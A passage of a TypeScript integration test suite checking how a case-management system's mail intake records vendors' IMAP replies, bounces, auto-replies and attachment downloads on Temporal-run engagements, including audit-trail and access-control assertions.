// The intake end to end: vendors' mail arrives in a real IMAP mailbox (the run's Dovecot, by IMAP
// APPEND of the bytes a mail client sends), the intake correlates and records it on engagements
// running on the real dev server, and the officer reviews it. Then bad input, each case asserting
// the message is neither lost nor recorded on a case it does not belong to.
import { simpleParser } from 'mailparser';
import { spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, inject, it } from 'vitest';
import { messageIdFor, replyAddressFor } from '../../activities/threading';
import { DossierClient } from '../../client/api';
import { CampaignClient } from '../../client/campaign-api';
import { CaseDocuments } from '../../documents/document-store';
import { ImapMailbox } from '../../intake/imap-mailbox';
import { DISMISSED_FOLDER, Intake, ORIGINALS_FOLDER } from '../../intake/intake';
import { holdingFolder, INBOX, RECORDED_FOLDER, type MailboxSource } from '../../intake/mailbox';
import { confirmInboundUpdate, dismissInboundUpdate } from '../../workflows/messages';
import { engagementWorkflowId } from '../../workflows/workflow-ids';
import { startEngagement, stepOf, type EngagementDriver } from '../helpers/engagement-driver';
import { engagementInput, patientPolicy, testCampaign, testVendor } from '../helpers/fixtures';
import { until } from '../helpers/until';
import { tcpRelay } from '../helpers/tcp-relay';
import { useIntakeOnImap } from '../helpers/intake-on-imap';
import { createDossierWorker } from '../../worker/worker';
import type { CampaignInput } from '../../workflows/types';
import { metricsUrl, useDossier } from '../helpers/harness';
import { Runtime } from '@temporalio/worker';
import { runDossier } from '../helpers/cli';
import { cliAccount, cliActor } from '../../client/identity';
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { campaignKeyId, generateMasterKeySpec } from '../../encryption/keystore';
import { PROJECT_ROOT } from '../../paths';
import { composeReply, deliveryReport, outlookDesktopReply, outlookReplyWithSignatureImages, outlookWebReplyHtmlOnly, outOfOffice, readReceipt, tinyPng, type QuotedMessage } from '../helpers/inbound-mail';
import { htmlAsText } from '../../intake/read-message';
import { createWebApp } from '../../web/app';
import type { OidcSignIn } from '../../web/oidc';
import { CookieSealer } from '../../web/session';
import { TEST_SESSION_SECRET, webConfigWithoutSignIn } from '../helpers/web-session';
import { collectAuditTrail } from '../../client/audit';
import { auditCsv } from '../../client/audit-report';
import { DocumentError } from '../../documents/document-store';
import { createHash } from 'node:crypto';

const env = useDossier();
const officer = 'Officer Tremblay';
// The intake and its mailbox, opened and closed by useIntakeOnImap, under the names the tests read.
const imap = useIntakeOnImap(env, 'intake');
let { mailbox, sender, intake, options: intakeOptions, documents, domain, caseMailbox, imapUser } = imap;
beforeAll(() => {
  ({ mailbox, sender, intake, options: intakeOptions, documents, domain, caseMailbox, imapUser } = imap);
});

/** Fails with the step's name when it takes longer than `ms`, instead of the test timing out silently. */
async function within<T>(step: string, work: Promise<T>, ms = 45_000): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const started = Date.now();
  try {
    return await Promise.race([work, new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`${step} took more than ${ms} ms`)), ms)))]);
  } finally {
    clearTimeout(timer);
    const took = Date.now() - started;
    if (took > 10_000) console.log(`[intake test] ${step} took ${took} ms`);
  }
}

async function count(box: MailboxSource, folder: string): Promise<number> {
  let n = 0;
  for await (const _ of box.messages(folder)) n++;
  return n;
}

async function openEngagement(vendorId: string, campaignId = env.uniqueId('inbound')): Promise<EngagementDriver & { letterId: string }> {
  const e = await startEngagement(env, engagementInput(campaignId, vendorId, patientPolicy()));
  await e.waitForMail('letter');
  await e.waitForStatus((s) => s.stage === 'awaiting-response');
  return Object.assign(e, { letterId: messageIdFor(e.handle.workflowId, 'letter', domain) });
}

function vendorReply(e: EngagementDriver & { letterId: string }, overrides: Partial<Parameters<typeof composeReply>[0]> = {}) {
  const vendorAddress = e.input.vendor.contacts[0].email;
  return composeReply({
    from: `Privacy Office <${vendorAddress}>`,
    to: replyAddressFor(caseMailbox, e.handle.workflowId),
    subject: `Re: [${e.input.campaign.reference}] Open letter`,
    messageId: `<${randomUUID()}@${vendorAddress.split('@')[1]}>`,
    inReplyTo: e.letterId,
    references: [e.letterId],
    text: 'Please find our response to the open letter attached.',
    attachments: [{ filename: 'response.pdf', content: Buffer.from('%PDF-1.7\n% response of the vendor\n'), contentType: 'application/pdf' }],
    ...overrides,
  });
}

/** The workspace over this file's engagements, document store and case mailbox, asked without a browser. */
function workspace(overrides: Partial<Parameters<typeof createWebApp>[0]> = {}) {
  return createWebApp({
    config: webConfigWithoutSignIn(0),
    signIn: {} as OidcSignIn,
    dossier: async () => intakeOptions().dossier as DossierClient,
    // No campaign workflow runs these engagements: the holding pen's page goes on without a board.
    campaigns: async () => ({ board: async () => undefined }) as never,
    revokedSessions: () => ({ revoke: async () => {}, isRevoked: async () => false }),
    receivedDocument: (campaignId, document) => documents.read(campaignId, document),
    holdingPen: async () => ({ intake, close: async () => {} }),
    ...overrides,
  });
}

/** The audit trail's rows of downloaded documents, once the export shows `count` of them. */
async function downloadsInTrail(scope: { campaignId: string; vendorId?: string }, count: number) {
  const trail = await until(
    () => collectAuditTrail(env.client, scope),
    (t) => t.events.filter((e) => e.kind === 'document-downloaded').length >= count,
    `${count} downloads in the audit trail of ${JSON.stringify(scope)}`,
    20_000,
  );
  return { trail, rows: trail.events.filter((e) => e.kind === 'document-downloaded') };
}

/** A request's headers signed in with `roles`. */
function as(roles: string[]) {
  const session = { id: 'e'.repeat(32), csrf: 't', language: 'en', user: { subject: 'owen', name: 'Owen', roles }, expiresAt: Date.now() + 60_000 };
  return { headers: { cookie: `dossier_session=${new CookieSealer(TEST_SESSION_SECRET).seal(session)}` } };
}

/** The address of the link to `name` in the attachments of a message's page, as a browser reads the attribute Handlebars escaped. */
/** An officer's download of `href`: the sent bytes, as a file under `disposition`, never sniffed. */
async function expectDownload(app: ReturnType<typeof workspace>, href: string, bytes: Buffer, disposition: string): Promise<Response> {
  const downloaded = await app.request(href, as(['officer']));
  expect(downloaded.status).toBe(200);
  expect(Buffer.from(await downloaded.arrayBuffer())).toEqual(bytes);
  expect(downloaded.headers.get('content-disposition')).toBe(disposition);
  expect(downloaded.headers.get('x-content-type-options')).toBe('nosniff');
  return downloaded;
}

function attachmentLink(html: string, name: string): string | undefined {
  const href = new RegExp(`<ul id="mail-attachments">.*?<li><a href="([^"]+)"[^>]*>${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}</a>`, 's').exec(html)?.[1];
  return href?.replace(/&#x3D;/g, '=').replace(/&amp;/g, '&');
}

describe('the intake records vendors’ mail on their engagements', () => {
  it('records a threaded reply with its PDF, stops the reminders for review, and the officer confirms it as the response', async () => {
    const e = await openEngagement('zoom');
    await sender.append(await vendorReply(e));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId, effect: 'to-review' });
    expect(await count(mailbox, INBOX)).toBe(0);

    const status = await e.status();
    expect(status.stage).toBe('reply-received');
    const [message] = status.inbox!;
    expect(message).toMatchObject({ from: 'privacy@zoom.test', matchedBy: 'thread', answersStep: 'letter', review: 'to-review' });
    expect(message.documents).toEqual([expect.objectContaining({ name: 'response.pdf', type: 'application/pdf', size: 34 })]);
    // The payload carries a reference; the bytes come back only through the store, decrypted.
    expect((await documents.read(e.input.campaign.id, message.documents[0])).toString()).toContain('response of the vendor');

    await e.handle.executeUpdate(confirmInboundUpdate, { args: [{ by: officer, messageId: message.messageId, as: 'response' }] });
    const confirmed = await e.status();
    expect(confirmed.stage).toBe('responded');
    expect(confirmed.response).toMatchObject({ summary: 'Please find our response to the open letter attached.', attachments: ['response.pdf'], messageId: message.messageId });
    await e.waitForMail('acknowledgement');
  });

  it('lets an officer download a reply’s PDF from its page in the workspace, as the vendor sent it, and no one without the case’s mail', async () => {
    const e = await openEngagement('zoom');
    const pdf = Buffer.from('%PDF-1.7\n% the vendor’s submission, in its own words\n');
    await sender.append(await vendorReply(e, { attachments: [{ filename: 'Réponse de l’entreprise.pdf', content: pdf, contentType: 'application/pdf' }] }));
    expect(await intake.pass()).toMatchObject([{ outcome: 'recorded', workflowId: e.handle.workflowId }]);
    const [message] = (await e.status()).inbox!;
    const app = workspace();
    const engagementPath = `/campaigns/${e.input.campaign.id}/engagements/zoom`;
    const messagePage = await app.request(`${engagementPath}/mail/received?id=${encodeURIComponent(message.messageId)}`, as(['officer']));
    expect(messagePage.status).toBe(200);
    const href = attachmentLink(await messagePage.text(), 'Réponse de l’entreprise.pdf');
    expect(href, 'the attachment on the message page is a link to its bytes').toBeDefined();
    const downloaded = await expectDownload(app, href!, pdf, `attachment; filename="R_ponse de l_entreprise.pdf"; filename*=UTF-8''R%C3%A9ponse%20de%20l%E2%80%99entreprise.pdf`);
    expect(downloaded.headers.get('content-type')).toBe('application/pdf');
    // An auditor reads the case's mail; a co-signatory does not.
    expect((await app.request(href!, as(['auditor']))).status).toBe(200);
    expect((await app.request(href!, as(['co-signatory']))).status).toBe(403);
    // Only a document of that message: another id names nothing.
    expect((await app.request(href!.replace(/document=[^&]+/, 'document=0123456789abcdef0123456789abcdef'), as(['officer']))).status).toBe(404);
  });

  it('writes each download of a reply’s document to the audit trail (who, when, which document of which message), and no download that failed', async () => {
    const e = await openEngagement('zoom');
    const pdf = Buffer.from('%PDF-1.7\n% the vendor’s confidential submission\n');
    await sender.append(await vendorReply(e, { attachments: [{ filename: 'submission.pdf', content: pdf, contentType: 'application/pdf' }] }));
    expect(await intake.pass()).toMatchObject([{ outcome: 'recorded', workflowId: e.handle.workflowId }]);
    const [message] = (await e.status()).inbox!;
    const app = workspace();
    const messagePage = await app.request(`/campaigns/${e.input.campaign.id}/engagements/zoom/mail/received?id=${encodeURIComponent(message.messageId)}`, as(['officer']));
    const href = attachmentLink(await messagePage.text(), 'submission.pdf')!;
    // The store cannot read it (503), or it was shredded (410): nothing was handed over, so nothing was downloaded.
    const unreadable = workspace({ receivedDocument: async () => { throw new DocumentError('DocumentCorrupt', 'the sealed bytes do not open'); } });
    expect((await unreadable.request(href, as(['officer']))).status).toBe(503);
    const shredded = workspace({ receivedDocument: async () => { throw new DocumentError('DocumentShredded', 'the campaign key was destroyed'); } });
    expect((await shredded.request(href, as(['officer']))).status).toBe(410);
    // A download the trail cannot record is not handed over.
    const real = intakeOptions().dossier as DossierClient;
    const unrecorded = workspace({
      dossier: async () => Object.assign(Object.create(real) as DossierClient, { recordDownload: async () => { throw new Error('the Temporal server is unreachable'); } }),
    });
    const refused = await unrecorded.request(href, as(['officer']));
    expect(refused.status).toBe(503);
    const said = await refused.text();
    expect(said).toContain('its download could not be recorded in the case');
    expect(said).not.toContain('vendor’s confidential submission');
    const started = new Date().toISOString();
    await expectDownload(app, href, pdf, `attachment; filename="submission.pdf"; filename*=UTF-8''submission.pdf`);
    expect((await app.request(href, as(['auditor']))).status).toBe(200);

    const { trail, rows } = await downloadsInTrail({ campaignId: e.input.campaign.id, vendorId: 'zoom' }, 2);
    const sha256 = createHash('sha256').update(pdf).digest('hex');
    const expected = { workflowId: e.handle.workflowId, kind: 'document-downloaded', action: 'documentDownloaded', messageId: message.messageId, documentName: 'submission.pdf', sha256, size: pdf.length, downloadedVia: 'workspace' };
    expect(rows).toEqual([
      expect.objectContaining({ ...expected, actor: 'Owen (owen, signed in)' }),
      expect.objectContaining({ ...expected, actor: 'Owen (owen, signed in)' }),
    ]);
    for (const row of rows) expect(row.at >= started.slice(0, 19)).toBe(true);
    const csv = auditCsv(trail, { language: 'en' }).toString('utf8');
    expect(csv).toContain(`,${e.handle.workflowId},Document downloaded,"Owen (owen, signed in)",documentDownloaded,${pdf.length} bytes; from the workspace,${message.messageId},,submission.pdf,${sha256},,document of a received message downloaded,,`);
    expect(auditCsv(trail, { language: 'fr' }).toString('utf8')).toContain('Document téléchargé');
  });

  it('records a colleague’s forward of the letter without Dossier’s own PDF and text, noting them as Dossier’s', async () => {
    const e = await openEngagement('zoom');
    const [letter] = await e.waitForMail('letter');
    const sent = await simpleParser(letter.raw);
    const pdf = sent.attachments.find((a) => a.contentType === 'application/pdf')!;
    const quoted = (sent.text ?? '').split('\n').map((line) => `> ${line}`).join('\n');
    await sender.append(
      await vendorReply(e, {
        from: 'Legal <legal@zoom.test>',
        subject: `Fwd: [${e.input.campaign.reference}] Open letter`,
        inReplyTo: undefined,
        references: undefined,
        text: `Our DPO answers below.\n\n---------- Forwarded message ---------\n${quoted}\n`,
        attachments: [
          { filename: pdf.filename, content: pdf.content, contentType: 'application/pdf' },
          { filename: 'policy.pdf', content: Buffer.from('%PDF-1.7\n% the vendor’s policy\n'), contentType: 'application/pdf' },
        ],
      }),
    );
    expect(await intake.pass()).toEqual([expect.objectContaining({ outcome: 'recorded', workflowId: e.handle.workflowId })]);
    const [message] = (await e.status()).inbox!;
    expect(message.documents.map((d) => d.name)).toEqual(['policy.pdf']);
    expect(message.text.trim()).toBe('Our DPO answers below.\n\n---------- Forwarded message ---------');
    expect(message.noteCodes).toEqual([
      { code: 'own-text', step: 'letter' },
      { code: 'own-document', name: pdf.filename, step: 'letter' },
    ]);
  });

  it('records an Outlook reply without the letter it quotes under a From/Sent/To/Subject block, in Outlook for Windows and in Outlook on the web (HTML only, French)', async () => {
    /** The letter as Outlook quotes it: its header, its HTML body, and that body as Outlook's text part renders it. */
    const quotedLetter = async (e: EngagementDriver, sentOn: string): Promise<QuotedMessage> => {
      const [letter] = await e.waitForMail('letter');
      const sent = await simpleParser(letter.raw);
      const bodyHtml = /<body[^>]*>([\s\S]*)<\/body>/i.exec(String(sent.html))![1]!;
      const vendor = e.input.vendor.contacts[0]!;
      return { fromName: 'Dossier Test', fromAddress: `dossier@${domain}`, toName: vendor.name, toAddress: vendor.email, subject: sent.subject!, sent: sentOn, bodyHtml, bodyText: htmlAsText(bodyHtml).trim() };
    };
    const recorded = async (e: EngagementDriver & { letterId: string }) => {
      expect(await intake.pass()).toEqual([expect.objectContaining({ outcome: 'recorded', workflowId: e.handle.workflowId })]);
      const [message] = (await e.status()).inbox!;
      return message;
    };

    const desktop = await openEngagement('teams');
    const desktopLetter = await quotedLetter(desktop, 'Tuesday, July 21, 2020 10:02 AM');
    await sender.append(
      await outlookDesktopReply({
        from: 'Anna Berg <privacy@teams.test>',
        to: replyAddressFor(caseMailbox, desktop.handle.workflowId),
        subject: `RE: ${desktopLetter.subject}`,
        messageId: `<DB9PR04MB8412${randomUUID().slice(0, 8).toUpperCase()}@DB9PR04MB8412.eurprd04.prod.outlook.com>`,
        inReplyTo: desktop.letterId,
        references: [desktop.letterId],
        ownLines: ['Thank you for your letter. Our response is attached.', '', 'Kind regards,', 'Anna Berg', 'Privacy Office'],
        quoted: desktopLetter,
      }),
    );
    const fromDesktop = await recorded(desktop);
    expect(fromDesktop.text.trim()).toBe('Thank you for your letter. Our response is attached.\n\nKind regards,\nAnna Berg\nPrivacy Office');
    expect(fromDesktop.noteCodes).toEqual([{ code: 'own-text', step: 'letter' }]);

    const input = engagementInput(env.uniqueId('inbound'), 'webex', patientPolicy());
    const started = await startEngagement(env, { ...input, vendor: { ...input.vendor, language: 'fr' } });
    await started.waitForMail('letter');
    await started.waitForStatus((s) => s.stage === 'awaiting-response');
    const web = Object.assign(started, { letterId: messageIdFor(started.handle.workflowId, 'letter', domain) });
    const webLetter = await quotedLetter(web, 'mardi 21 juillet 2020 10:02');
    const webMessageId = `<PAXPR02MB7597${randomUUID().slice(0, 8).toUpperCase()}@PAXPR02MB7597.eurprd02.prod.outlook.com>`;
    await sender.append(
      await outlookWebReplyHtmlOnly({
        from: 'Claire Dubois <privacy@webex.test>',
        to: replyAddressFor(caseMailbox, web.handle.workflowId),
        subject: `RE: ${webLetter.subject}`,
        messageId: webMessageId,
        inReplyTo: web.letterId,
        references: [web.letterId],
        ownLines: ['Bonjour,', '', 'Veuillez trouver notre réponse ci-jointe.', '', 'Cordialement,', 'Claire Dubois'],
        quoted: webLetter,
      }),
    );
    const fromWeb = await recorded(web);
    // Its text is the HTML as the intake renders it (blank lines as Outlook's empty divs make them), the rule and letter gone.
    expect(fromWeb.text.trim()).toMatch(/^Bonjour,\s+Veuillez trouver notre réponse ci-jointe\.\s+Cordialement,\s+Claire Dubois$/);
    expect(fromWeb.noteCodes).toEqual([{ code: 'own-text', step: 'letter' }]);
    // The whole message, quoted letter included, stays in the case mailbox.
    const kept: string[] = [];
    for await (const m of mailbox.messages(RECORDED_FOLDER)) if (m.raw.toString().includes(webMessageId)) kept.push(m.raw.toString());
    expect(kept).toHaveLength(1);
    expect(kept[0]).toContain('divRplyFwdMsg');
    expect((await simpleParser(kept[0]!)).html).toContain(webLetter.subject.replace(/&/g, '&amp;'));
  });

  it('records an Outlook reply without the images of its signature, which its HTML shows by cid, and keeps every image attached or not shown', async () => {
    const e = await openEngagement('teams');
    const pdf = Buffer.from('%PDF-1.7\n% the vendor’s response, signed\n');
    const screenshot = tinyPng('the privacy settings, as a user sees them');
    const pasted = tinyPng('an image inline that the text does not show');
    await sender.append(
      outlookReplyWithSignatureImages({
        from: 'Anna Berg <privacy@teams.test>',
        to: replyAddressFor(caseMailbox, e.handle.workflowId),
        subject: `RE: [${e.input.campaign.reference}] Open letter`,
        messageId: `<DB9PR04MB8412${randomUUID().slice(0, 8).toUpperCase()}@DB9PR04MB8412.eurprd04.prod.outlook.com>`,
        inReplyTo: e.letterId,
        references: [e.letterId],
        ownLines: ['Our response and a screenshot of the settings are attached.', '', 'Anna Berg', 'Privacy Office'],
        images: [
          { name: 'image001.png', content: tinyPng('the company’s logo'), as: 'signature' },
          { name: 'image002.png', content: tinyPng('LinkedIn'), as: 'signature' },
          { name: 'image003.png', content: tinyPng('X'), as: 'signature' },
          { name: 'image004.png', content: pasted, as: 'inline-unreferenced' },
          { name: 'settings.png', content: screenshot, as: 'attached' },
        ],
        files: [{ name: 'response.pdf', type: 'application/pdf', content: pdf }],
      }),
    );
    expect(await intake.pass()).toEqual([expect.objectContaining({ outcome: 'recorded', workflowId: e.handle.workflowId })]);
    const [message] = (await e.status()).inbox!;
    expect(message.documents.map((d) => d.name).sort()).toEqual(['image004.png', 'response.pdf', 'settings.png']);
    const kept = async (name: string) => documents.read(e.input.campaign.id, message.documents.find((d) => d.name === name)!);
    expect(await kept('settings.png')).toEqual(screenshot);
    expect(await kept('image004.png')).toEqual(pasted);
    expect(await kept('response.pdf')).toEqual(pdf);
    expect(message.text).toContain('Our response and a screenshot of the settings are attached.');
  });

  it('measures on its Prometheus endpoint how long a message waited in the mailbox before it was recorded', async () => {
    const lag = async () => {
      const text = await (await fetch(metricsUrl())).text();
      const sample = (name: string) => Number(new RegExp(`^${name}\\{[^}]*outcome="recorded"[^}]*\\} (\\S+)`, 'm').exec(text)?.[1] ?? 0);
      return { count: sample('dossier_intake_lag_count'), sum: sample('dossier_intake_lag_sum') };
    };
    const measured = new Intake({ ...intakeOptions(), metricMeter: Runtime.instance().metricMeter });
    const e = await openEngagement('webex');
    const before = await lag();
    await sender.append(await vendorReply(e));
    await new Promise((r) => setTimeout(r, 1_500));
    const [settled] = await measured.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId });
    const after = await lag();
    expect(after.count - before.count).toBe(1);
    // It sat in the mailbox for 1.5 s before the pass (IMAP dates arrivals to the second).
    expect(after.sum - before.sum).toBeGreaterThanOrEqual(1_400);
    expect(after.sum - before.sum).toBeLessThan(60_000);
  });

  it('records a message once, however often it arrives', async () => {
    // This test twice outlived vitest's timeout in CI with no trace of where; each step now has a
    // limit of its own that names it.
    const e = await within('opening the engagement', openEngagement('cisco'));
    const raw = await vendorReply(e);
    await within('the first delivery', sender.append(raw));
    await within('the first pass', intake.pass());
    await within('the second delivery', sender.append(raw));
    const [again] = await within('the second pass', intake.pass());
    expect(again).toMatchObject({ outcome: 'recorded', effect: 'to-review' });
    expect((await within('the status query', e.status())).inbox).toHaveLength(1);
    expect(await within('counting the inbox', count(mailbox, INBOX))).toBe(0);
  }, 150_000);

  /** Cisco's reply, recorded by the intake and confirmed by the officer as the response: what a copy arriving again meets. */
  async function confirmedReply() {
    const e = await openEngagement('cisco');
    const raw = await vendorReply(e);
    await sender.append(raw);
    expect(await intake.pass()).toMatchObject([{ outcome: 'recorded', effect: 'to-review' }]);
    const [message] = (await e.status()).inbox!;
    await e.handle.executeUpdate(confirmInboundUpdate, { args: [{ by: officer, messageId: message.messageId, as: 'response' }] });
    return { e, raw, message };
  }

  it('says a reply arriving again after the officer confirmed it is a duplicate of a message already confirmed, not one to review', async () => {
    const { e, raw, message } = await confirmedReply();
    const lines: string[] = [];
    const logged = new Intake({ ...intakeOptions(), log: (line) => lines.push(line) });
    await sender.append(raw);
    const [again] = await logged.pass();
    expect(lines.filter((line) => line.includes(message.messageId))).toEqual([
      `intake: ${message.messageId} arrived again on ${e.handle.workflowId}: a duplicate of a message already confirmed, which the engagement ignored`,
    ]);
    expect(again).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId, duplicateOf: 'confirmed' });
    // The engagement kept the one message, still confirmed, and its stage.
    const status = await e.status();
    expect(status.inbox).toEqual([expect.objectContaining({ messageId: message.messageId, review: 'confirmed' })]);
    expect(status.stage).toBe('responded');
    expect(await count(mailbox, INBOX)).toBe(0);
  });

  it('says a reply’s review state is unknown, not that it is to review, when the engagement’s status cannot be read as it arrives again', async () => {
    const { e, raw, message } = await confirmedReply();
    // The status read that says what the engagement already holds fails as a timed-out query would.
    const { directory } = intakeOptions();
    const blind = Object.assign(Object.create(directory) as typeof directory, {
      engagementMail: async () => {
        throw new Error('the engagement did not answer its status query within 5000 ms');
      },
    });
    const lines: string[] = [];
    const logged = new Intake({ ...intakeOptions(), directory: blind, log: (line) => lines.push(line) });
    await sender.append(raw);
    const [again] = await logged.pass();
    expect(lines.filter((line) => line.includes(message.messageId) && !line.includes(': what Dossier sent on'))).toEqual([
      `intake: ${message.messageId} recorded on ${e.handle.workflowId}; its review state is unknown, as the engagement’s status could not be read (if it had arrived before, the engagement ignored this copy and kept its review)`,
    ]);
    expect(lines.join('\n')).not.toContain('(to-review)');
    expect(again).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId, reviewUnknown: true });
    expect((await e.status()).inbox).toEqual([expect.objectContaining({ messageId: message.messageId, review: 'confirmed' })]);
  });

  it('stores a reply’s attachments only once the engagement recorded it, and a pass cut short in between heals on the next', async () => {
    const e = await openEngagement('webex');
    await sender.append(await vendorReply(e));
    let failures = 1;
    const flaky = Object.create(documents) as CaseDocuments;
    flaky.save = async (...args: Parameters<CaseDocuments['save']>) => {
      if (failures-- > 0) throw new Error('the document store is unreachable');
      return documents.save(...args);
    };
    const cutShort = new Intake({ ...intakeOptions(), documents: flaky });
    expect(await cutShort.pass()).toMatchObject([{ outcome: 'left', reason: 'the document store is unreachable' }]);
    const [message] = (await e.status()).inbox!;
    await expect(documents.read(e.input.campaign.id, message.documents[0])).rejects.toThrow(/is not in the document store/);
    // The same update id: Temporal answers with the first outcome instead of recording it again.
    expect(await cutShort.pass()).toMatchObject([{ outcome: 'recorded', effect: 'to-review' }]);
    expect((await e.status()).inbox).toHaveLength(1);
    expect((await documents.read(e.input.campaign.id, message.documents[0])).toString()).toContain('response of the vendor');
    expect(await count(mailbox, INBOX)).toBe(0);
  });

  it('holds a reply to an engagement of a shredded campaign, saying so, instead of retrying it or making the campaign a new key', async () => {
    const e = await openEngagement('zoom');
    await e.handle.terminate('case over');
    const keyId = campaignKeyId(e.input.campaign.id);
    expect(await env.encryption!.keystore.shred(keyId)).toBe(true);
    await sender.append(await vendorReply(e));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'held', campaignId: e.input.campaign.id, reason: expect.stringMatching(`campaign "${e.input.campaign.id}" was shredded at`) });
    expect(await count(mailbox, INBOX)).toBe(0);
    expect(await env.encryption!.keystore.list()).not.toContain(keyId);
  });

  it('finds the engagement by the reply token when a mail client dropped the threading headers', async () => {
    const e = await openEngagement('google');
    await sender.append(await vendorReply(e, { inReplyTo: undefined, references: undefined, subject: 'Our answer' }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId });
    expect((await e.status()).inbox![0].matchedBy).toBe('token');
  });

  it('notes an out-of-office answer without stopping the reminders', async () => {
    const e = await openEngagement('houseparty');
    await sender.append(await outOfOffice({ from: 'privacy@houseparty.test', to: caseMailbox, subject: 'Automatic reply', messageId: `<${randomUUID()}@houseparty.test>`, inReplyTo: e.letterId }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', effect: 'noted' });
    const status = await e.status();
    expect(status.stage).toBe('awaiting-response');
    expect(status.inbox![0]).toMatchObject({ kind: 'auto-reply', review: 'noted' });
  });

  it('notes a read receipt of the letter without taking it as the vendor’s reply or stopping the reminders', async () => {
    const e = await openEngagement('houseparty');
    await sender.append(readReceipt({ from: 'Privacy Office <privacy@houseparty.test>', to: caseMailbox, readMessageId: e.letterId, messageId: `<${randomUUID()}@houseparty.test>` }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId, effect: 'noted' });
    const status = await e.status();
    expect(status.stage).toBe('awaiting-response');
    expect(status.inbox![0]).toMatchObject({ kind: 'auto-reply', review: 'noted', matchedBy: 'thread', answersStep: 'letter', documents: [] });
  });

  it('handles a bounce like a refused address: delivery failure recorded, officer told', async () => {
    const e = await openEngagement('microsoft');
    await sender.append(deliveryReport({ to: caseMailbox, bouncedMessageId: e.letterId, recipient: 'privacy@microsoft.test', messageId: `<${randomUUID()}@mx.microsoft.test>` }));
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', effect: 'delivery-failure' });
    const status = await e.status();
    expect(status.deliveryFailures).toEqual([expect.objectContaining({ step: 'letter', reason: expect.stringContaining('5.1.1') })]);
    const [notice] = await e.waitForMail('officer-notice-bounce-1');
    expect(notice.to).toEqual([e.input.campaign.officeContact.email]);
  });

  it('notes a relay’s report that the letter is delayed on the engagement it concerns, without holding it or stopping the reminders', async () => {
    const e = await openEngagement('skype');
    // Hours after the letter left, a relay still retrying says so; its sender, subject and recipient are the mail system's.
    const report = deliveryReport({
      to: env.config.mailFrom,
      bouncedMessageId: e.letterId,
      recipient: 'privacy@skype.test',
      messageId: `<${randomUUID()}@mx.skype.test>`,
      subject: 'Delayed Mail (still being retried)',
      groups: [{ recipient: 'privacy@skype.test', action: 'delayed', status: '4.4.1', diagnostic: '451 4.4.1 connection timed out, still trying for 4 hours' }],
    });
    await sender.append(report);
    const [settled] = await intake.pass();
    expect(settled).toMatchObject({ outcome: 'recorded', workflowId: e.handle.workflowId, effect: 'noted' });
    const status = await e.status();
    expect(status.stage).toBe('awaiting-response');
    expect(status.deliveryFailures).toEqual([]);
    // The report's machine parts are the relay's, not documents of the vendor's.
    expect(status.inbox![0]).toMatchObject({ kind: 'auto-reply', review: 'noted', matchedBy: 'thread', answersStep: 'letter', documents: [] });
  });

  it('takes a bounce of the letter from every contact as a letter not delivered: no deadline until the address is corrected', async () => {
    // Due long enough after the letter for the bounce to be read first even on a loaded machine
    // (a reminder sent before the bounce is recorded would be right, not a fault).
    const policy = patientPolicy({ responseDue: '10s', reminderCadence: ['1s'], finalNoticeAfter: '3s', closeAfter: '60s' });
    const e = await startEngagement(env, engagementInput(env.uniqueId('bounced'), 'bounced', policy));
    await e.waitForMail('letter');
    const letterSent = Date.now();
    // The send recorded first; a bounce read before that is the next test's case.
    await e.waitForStatus((s) => s.stage === 'awaiting-response');
    const letterId = messageIdFor(e.handle.workflowId, 'letter', domain);
    await sender.append(deliveryReport({ to: caseMailbox, bouncedMessageId: letterId, recipient: 'privacy@bounced.test', messageId: `<${randomUUID()}@mx.bounced.test>` }));
    await intake.pass();
    const waiting = await e.waitForStatus((s) => s.stage === 'letter-undeliverable');
    expect(waiting.nextDeadline).toBeUndefined();
    const [notice] = await e.waitForMail('officer-notice-bounce-1');
    expect((await env.parsed([notice]))[0].text).toMatch(/No deadline runs/);
    // Past the due date, the reminder and the final notice of this policy: nothing goes to the bounced address.
    await new Promise((r) => setTimeout(r, Math.max(0, letterSent + 16_000 - Date.now())));
    expect((await e.status()).remindersSent).toEqual([]);
    expect(e.mails().filter((m) => m.to.includes('privacy@bounced.test')).map(stepOf)).toEqual(['letter']);

    const dossier = new DossierClient(env.client, { taskQueue: env.taskQueue, address: 'test' });
    const ref = { campaignId: e.input.campaign.id, vendorId: 'bounced' };
    await dossier.correctContacts(ref, { by: officer, contacts: [{ name: 'Privacy', email: 'privacy@found.test' }], reason: 'the old mailbox was closed' });
    const [letter] = await e.waitForMail('letter-2');
    expect(letter.to).toEqual(['privacy@found.test']);
    await e.waitForStatus((s) => s.stage === 'awaiting-response' && s.nextDeadline !== undefined);
    const [reminder] = await e.waitForMail('reminder-response-1');
    expect(reminder.to).toEqual(['privacy@found.test']);
    await dossier.withdraw(ref, { by: officer, reason: 'test over' });
  }, 90_000);

  it('takes a bounce from every contact read while the letter\'s send was still finishing as a letter not delivered, and tells the office', async () => {
    // The vendor's server can report the bounce before the worker has recorded the send: the intake
    // reads it while the engagement still says the letter is going out.
    let release!: () => void;
    const sendFinished = new Promise<void>((resolve) => (release = resolve));
    const taskQueue = await env.ownWorker('bounce-before-delivery', {
      wrap: (activities) => ({
        ...activities,
        async sendMessage(message: Parameters<typeof activities.sendMessage>[0]) {
          const delivery = await activities.sendMessage(message);
          if (message.step === 'letter') await sendFinished;
          return delivery;
        },
      }),
    });
    const policy = patientPolicy({ responseDue: '60s', reminderCadence: ['30s'], finalNoticeAfter: '60s', closeAfter: '60s' });
    const e = await startEngagement(env, engagementInput(env.uniqueId('early-bounce'), 'early', policy), { taskQueue });
    try {
